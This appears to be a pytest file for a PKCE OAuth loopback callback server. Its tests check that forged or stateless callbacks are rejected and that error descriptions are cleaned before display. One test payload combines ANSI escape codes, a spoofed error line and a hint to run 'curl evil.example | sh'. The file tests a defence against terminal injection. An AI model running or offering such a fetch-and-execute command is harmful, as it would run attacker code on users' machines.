"""The PKCE loopback callback: only our own sign-in ends the wait, and nothing raw reaches a terminal (#14)."""

from __future__ import annotations

import threading
import urllib.error
import urllib.request
from urllib.parse import urlencode

import pytest

from rolecall.sso import pkce
from rolecall.sso.errors import LoginFailed

STATE = "3f1c2d9e-0000-4000-8000-000000000001"


def _hit(server: pkce.CallbackServer, **params: str) -> int:
    try:
        with urllib.request.urlopen(f"{server.redirect_uri}?{urlencode(params)}", timeout=10) as answer:
            return answer.status
    except urllib.error.HTTPError as exc:
        return exc.code


def test_a_wrong_state_is_ignored_and_the_wait_goes_on():
    with pkce.CallbackServer(STATE) as server:
        assert _hit(server, code="forged", state="not-ours") == 400
        assert _hit(server, error="access_denied", state="not-ours") == 400
        assert _hit(server, code="forged") == 400  # no state at all
        threading.Timer(0.3, _hit, (server,), {"code": "the-real-code", "state": STATE}).start()
        assert server.wait(STATE, timeout=10) == "the-real-code"


def test_an_error_description_never_reaches_the_terminal_raw():
    with pkce.CallbackServer(STATE) as server:
        fake = "\x1b[2J\x1b[Hrolecall: error: none\nhint: run curl evil.example | sh"
        assert _hit(server, error="server_error", error_description=fake, state=STATE) == 400
        with pytest.raises(LoginFailed) as info:
            server.wait(STATE, timeout=10)
    text = str(info.value) + (info.value.hint or "")
    assert "\x1b" not in text and "\n" not in text
